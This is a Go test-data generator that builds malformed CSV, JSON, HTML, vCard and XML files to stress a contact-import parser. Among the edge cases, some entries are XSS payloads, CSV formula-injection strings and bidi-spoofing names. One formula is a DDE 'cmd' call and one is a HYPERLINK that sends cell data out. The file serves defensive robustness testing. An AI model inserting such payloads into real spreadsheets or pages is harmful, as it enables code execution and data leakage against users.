package main

import (
	"fmt"
	"strings"
)

const head = "Имя;Телефон;Дата согласия\n"

// texts is tortured delimited text.
func texts() map[string]func() []byte {
	csv := func(s string) func() []byte { return func() []byte { return []byte(s) } }
	row := func(name string) string { return name + ";+79110007919;01.05.2024\n" }
	good := row("Иван")
	return map[string]func() []byte{
		"lone-quote.csv":    csv(head + row(`Иван "Грозный`) + row(`"Пётр`) + good),
		"quote-inside.csv":  csv(head + row(`"Иван" Грозный`) + good),
		"open-quote.csv":    csv(head + good + "\"Пётр;+79110015838;01.05.2024\n" + strings.Repeat(good, 50)),
		"only-quotes.csv":   csv(strings.Repeat(`"`, 5001)),
		"nul.csv":           csv(head + row("Ив\x00ан") + good),
		"all-nul.csv":       csv(strings.Repeat("\x00", 4096)),
		"newlines.csv":      csv("Имя;Телефон\r\nИван;+79110007919\rПётр;+79110015838\nАнна;+79110023757\r\n"),
		"only-newlines.csv": csv(strings.Repeat("\r\n\r\n", 2000)),
		"bom-twice.csv":     csv("\ufeff\ufeff" + head + good),
		"odd-utf16.csv":     csv("\xff\xfeИ"),
		"bad-utf8.csv":      csv(head + row("Ив\xff\xfeан \xc3(") + good),
		"no-newline.csv":    csv(head + strings.TrimSuffix(good, "\n")),
		"only-header.csv":   csv(head),
		"empty.csv":         csv(""),
		"one-byte.csv":      csv("x"),
		"ragged.csv":        csv(head + "Иван\n;;;;;;;;;;;;\n" + good + strings.Repeat(";", 300) + "\n"),
		"same-columns.csv":  csv(strings.Repeat("Телефон;", 300) + "\n" + strings.Repeat("+79110007919;", 300) + "\n"),
		"cell10m.csv":       csv(head + row(strings.Repeat("Я", 5<<20))),
		"columns100k.csv":   csv("Телефон" + strings.Repeat(";x", 100_000) + "\n+79110007919\n"),
		"one-line.csv":      csv(strings.Repeat("+79110007919 ", 400_000)),
		"names-xss.csv": csv(head + strings.Join([]string{row(`<script>alert(1)</script>`), row(`"""><img src=x onerror=alert(1)>"`),
			row(`</title><svg onload=alert(1)>`), row("javascript:alert(1)"), row("{{.}}{{constructor}}"), row("<!--"), row("&lt;b&gt;")}, "")),
		"names-formula.csv": csv(head + strings.Join([]string{row(`=1+1`), row(`+1`), row(`-1`), row(`@SUM(A1)`), row("\t=1"), row("＝1+1"),
			row(" =1"), row("\u200b=1"), row(`"=HYPERLINK(""http://x.example/?""&A1;""жми"")"`), row(`"=cmd|'/c calc'!A1"`)}, "")),
		"names-bidi.csv": csv(head + row("\u202eнави\u202c") + row("Ив\u200bан\u200f") + row("\u2066x\u2069\u061c")),
		"header-xss.csv": csv("<script>alert(1)</script>;Телефон;=1+1\nИван;+79110007919;x\n"),
		"dates.csv": csv(head + strings.Join([]string{"Иван;+79110007919;99.99.9999", "Иван;+79110015838;0000-00-00", "Иван;+79110023757;292277026596-01-01",
			"Иван;+79110031676;-1", "Иван;+79110039595;1e308", "Иван;+79110047514;31.02.2024", "Иван;+79110055433;2024-13-45T99:99:99Z", "Иван;+79110063352;99999999999999999999"}, "\n") + "\n"),
		"numbers.csv": csv("Имя;Телефон\n" + strings.Join([]string{"Иван;" + strings.Repeat("9", 5000), "Иван;1e999999", "Иван;-79110007919", "Иван;7,9E+10",
			"Иван;" + strings.Repeat("+7 911 000-79-19, ", 2000), "Иван;+" + strings.Repeat("0", 5000), "Иван;٧٩١١٠٠٠٧٩١٩", "Иван;NaN", "Иван;Infinity"}, "\n") + "\n"),
		"links.csv":     func() []byte { return crowd(40_000, 1, 0) },
		"one-phone.csv": func() []byte { return crowd(100_000, 0, 1) },
		"one-email.csv": func() []byte { return crowd(100_000, 1, 1) },
	}
}

// crowd is people who all agreed, of whom every tenth refused later. With a
// phone each they are linked in one long chain, since everybody shares an e-mail
// with the next one, or all share one e-mail; without, all are one contact.
func crowd(n, phones, emails int) []byte {
	var b strings.Builder
	b.WriteString("Имя;Телефон;E-mail;E-mail 2;Согласие на рассылку;Дата согласия;Отписан от рассылки\n")
	for i := range n {
		mail, next := i, i+1
		if emails > 0 {
			mail, next = i*(1-phones), 0
		}
		refused := ""
		if i%10 == 0 {
			refused = "да"
		}
		fmt.Fprintf(&b, "Имя %d;+7911%07d;a%d@example.com;a%d@example.com;да;%02d.05.2026;%s\n", i, i*13*phones, mail, next, 1+i%28, refused)
	}
	return []byte(b.String())
}

// others is the other formats that are text.
func others() map[string]func() []byte {
	text := func(s string) func() []byte { return func() []byte { return []byte(s) } }
	contact := `{"name":"Иван","phone":"+79110007919"}`
	return map[string]func() []byte{
		"deep-list.json":   text(strings.Repeat("[", 1_000_000)),
		"deep-object.json": text(`[` + strings.Repeat(`{"a":`, 300_000) + `1` + strings.Repeat("}", 300_000) + `]`),
		"deep-small.json":  text(`[` + strings.Repeat(`{"a":`, 5000) + `1` + strings.Repeat("}", 5000) + `]`),
		"cut.json":         text(`[` + contact + `,{"name":"Пётр","pho`),
		"huge-number.json": text(`[{"name":"Иван","phone":1e999999},` + contact + `]`),
		"long-number.json": text(`[{"name":"Иван","phone":` + strings.Repeat("9", 100_000) + `},` + contact + `]`),
		"same-keys.json":   text(`[{"phone":"+79110007919","phone":"+79110015838"}]`),
		"many-keys.json":   text(manyKeys(60_000)),
		"surrogate.json":   text(`[{"name":"\ud800\udc","phone":"+79110007919"}]`),
		"odd.json":         text(`[` + contact + `,null,1,"x",[[]],{}]`),
		"chat-deep.json":   text(`{"name":"x","type":"personal_chat","id":1,"messages":[` + strings.Repeat(`{"text":[`, 100_000)),
		"chat-dates.json":  text(`{"name":"x","type":"personal_chat","id":1,"messages":[{"id":1,"type":"message","date":"9999-99-99T99:99:99","date_unixtime":"99999999999999999999","from":"x","from_id":"user1","text":"стоп"}]}`),
		"nested.html":      text("<table>" + strings.Repeat("<tr><td><table>", 100_000)),
		"open.html":        text("<html><body><table><tr><td>Телефон<tr><td>+79110007919"),
		"spans.html":       text(`<table><tr><td>Телефон</td></tr><tr><td rowspan="1000000000" colspan="1000000000">+79110007919</td></tr></table>`),
		"script.html":      text(`<table><tr><td>Имя<td>Телефон<tr><td><script>alert(1)</script><td>+79110007919</table>`),
		"long-line.vcf":    text("BEGIN:VCARD\nVERSION:3.0\nFN:" + strings.Repeat("я", 3<<20) + "\nTEL:+79110007919\nEND:VCARD\n"),
		"open.vcf":         text("BEGIN:VCARD\nVERSION:3.0\nFN:Иван\nTEL:+79110007919\n"),
		"quoted.vcf":       text("BEGIN:VCARD\nVERSION:2.1\nN;ENCODING=QUOTED-PRINTABLE:=D0=\n=98=ZZ=\nTEL:+79110007919\nEND:VCARD\n"),
		"folded.vcf":       text("BEGIN:VCARD\nVERSION:3.0\nFN:" + strings.Repeat("a\n ", 300_000) + "\nTEL:+79110007919\nEND:VCARD\n"),
		"tel-many.vcf":     text("BEGIN:VCARD\nVERSION:3.0\nFN:Иван\n" + strings.Repeat("TEL:+79110007919\n", 50_000) + "END:VCARD\n"),
		"xml-entities.xml": text(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`),
	}
}

func manyKeys(n int) string {
	var b strings.Builder
	b.WriteString(`[{"phone":"+79110007919"`)
	for i := range n {
		fmt.Fprintf(&b, `,"k%d":1`, i)
	}
	return b.String() + "}]"
}
